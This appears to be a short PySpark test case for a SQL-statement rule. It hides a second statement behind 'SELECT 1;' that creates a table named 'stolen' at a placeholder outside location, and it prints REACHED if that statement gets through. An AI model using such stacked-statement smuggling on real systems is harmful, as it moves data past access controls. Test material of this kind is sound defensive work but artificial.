# attack: sql
# rule: sql-statement
# goal: Hide a second statement behind the first. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

spark.sql("SELECT 1; CREATE TABLE stolen USING csv LOCATION 'ATTACK_OUTSIDE/stolen' AS SELECT 1")
print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
